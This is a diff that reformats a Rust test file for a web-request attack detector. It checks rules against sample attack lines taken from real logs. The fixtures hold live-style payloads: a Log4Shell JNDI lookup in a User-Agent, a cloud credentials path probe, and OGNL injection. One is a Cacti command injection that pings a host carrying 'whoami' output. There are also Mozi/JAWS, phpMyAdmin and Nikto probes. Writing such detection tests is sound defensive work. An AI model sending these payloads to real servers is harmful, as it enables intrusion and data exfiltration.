@@ -143,7 +143,14 @@ fn real_apache_log_hits_only_its_probes() {
         hits.clear();
         set.check(&r, &mut hits);
         for h in &hits {
-            println!("line {}: {} {} {} {}", n + 1, h.category.name(), h.rule, h.field, r.request_line());
+            println!(
+                "line {}: {} {} {} {}",
+                n + 1,
+                h.category.name(),
+                h.rule,
+                h.field,
+                r.request_line()
+            );
             got.push((n + 1, h.rule.to_string()));
         }
     }
@@ -189,10 +196,25 @@ fn published_attack_lines() {
         vec![(Category::Traversal, "traversal-dotdot".into(), "path")]
     );
     // Lines 5/12: `/.awscfg` with a Log4Shell UA.
-    let r = req("GET", "/.awscfg", None, Some("${jndi:ldap://${java:version}.domain/a}"));
+    let r = req(
+        "GET",
+        "/.awscfg",
+        None,
+        Some("${jndi:ldap://${java:version}.domain/a}"),
+    );
     let c = categories(&set, &r);
-    assert!(c.contains(&(Category::Jndi, "jndi-lookup".into(), "user_agent")), "{c:?}");
-    assert!(c.contains(&(Category::SensitiveFile, "sensitive-cloud-credentials".into(), "path")), "{c:?}");
+    assert!(
+        c.contains(&(Category::Jndi, "jndi-lookup".into(), "user_agent")),
+        "{c:?}"
+    );
+    assert!(
+        c.contains(&(
+            Category::SensitiveFile,
+            "sensitive-cloud-credentials".into(),
+            "path"
+        )),
+        "{c:?}"
+    );
     assert_eq!(c.len(), 2, "{c:?}");
     // Lines 6/13: URL-encoded OGNL in the path.
     let r = req(
@@ -202,17 +224,28 @@ fn published_attack_lines() {
         Some(CHROME),
     );
     let c = categories(&set, &r);
-    assert_eq!(c, vec![(Category::Probe, "probe-ognl-injection".into(), "path")]);
+    assert_eq!(
+        c,
+        vec![(Category::Probe, "probe-ognl-injection".into(), "path")]
+    );
     // Lines 7/14: Cacti remote_agent.php command injection.
     let r = req(
         "GET",
         "/remote_agent.php",
-        Some("action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com"),
+        Some(
+            "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com",
+        ),
         Some(CHROME),
     );
     let c = categories(&set, &r);
-    assert!(c.contains(&(Category::Probe, "probe-cacti-cve-2022-46169".into(), "path")), "{c:?}");
-    assert!(c.contains(&(Category::CommandInjection, "cmdi-chain".into(), "query")), "{c:?}");
+    assert!(
+        c.contains(&(Category::Probe, "probe-cacti-cve-2022-46169".into(), "path")),
+        "{c:?}"
+    );
+    assert!(
+        c.contains(&(Category::CommandInjection, "cmdi-chain".into(), "query")),
+        "{c:?}"
+    );
     assert_eq!(c.len(), 2, "{c:?}");
     // elastic-integrations-test-alb line 2: JAWS/Mozi, space inside the URL.
     let rl = lex::request_line(
@@ -220,14 +253,22 @@ fn published_attack_lines() {
     );
     let r = req("GET", rl.path.unwrap(), rl.query, Some("Hello, world"));
     let c = categories(&set, &r);
-    assert!(c.contains(&(Category::Probe, "probe-mozi-jaws-shell".into(), "path")), "{c:?}");
-    assert!(c.contains(&(Category::CommandInjection, "cmdi-chain".into(), "query")), "{c:?}");
+    assert!(
+        c.contains(&(Category::Probe, "probe-mozi-jaws-shell".into(), "path")),
+        "{c:?}"
+    );
+    assert!(
+        c.contains(&(Category::CommandInjection, "cmdi-chain".into(), "query")),
+        "{c:?}"
+    );
     assert_eq!(c.len(), 2, "{c:?}");
     // azure-appgw raw lines 1-2: phpMyAdmin setup probe.
     let r = req(
         "GET",
         "/phpmyadmin/scripts/setup.php",
-        Some("X-AzureApplicationGateway-CACHE-HIT=0&SERVER-ROUTED=10.4.0.4&X-AzureApplicationGateway-LOG-ID=874f1f0f-6807-41c9-b7bc-f3cfa74aa0b1&SERVER-STATUS=404"),
+        Some(
+            "X-AzureApplicationGateway-CACHE-HIT=0&SERVER-ROUTED=10.4.0.4&X-AzureApplicationGateway-LOG-ID=874f1f0f-6807-41c9-b7bc-f3cfa74aa0b1&SERVER-STATUS=404",
+        ),
         None,
     );
     assert_eq!(
@@ -246,7 +287,12 @@ fn published_attack_lines() {
         vec![(Category::Xss, "xss-script-tag".into(), "method")]
     );
     // crowdsec bad-user-agent lines 2-4: Nikto.
-    let r = req("HEAD", "/index.html", None, Some("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)"));
+    let r = req(
+        "HEAD",
+        "/index.html",
+        None,
+        Some("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)"),
+    );
     assert_eq!(
         categories(&set, &r),
         vec![(Category::ScannerAgent, "scanner-nikto".into(), "user_agent")]
@@ -275,7 +321,11 @@ fn real_combined_samples() {
         for (n, line) in text.lines().enumerate() {
             let f2 = split_combined(line);
             // Requests are the first quoted field; find it by the `[time]` before it.
-            let Some(t) = f2.iter().position(|s| s.contains(':') && s.contains('/') && s.len() >= 20 && s.as_bytes()[2] == b'/') else { continue };
+            let Some(t) = f2.iter().position(|s| {
+                s.contains(':') && s.contains('/') && s.len() >= 20 && s.as_bytes()[2] == b'/'
+            }) else {
+                continue;
+            };
             let Some(&rl) = f2.get(t + 1) else { continue };
             let rl = lex::request_line(rl);
             let r = Request {
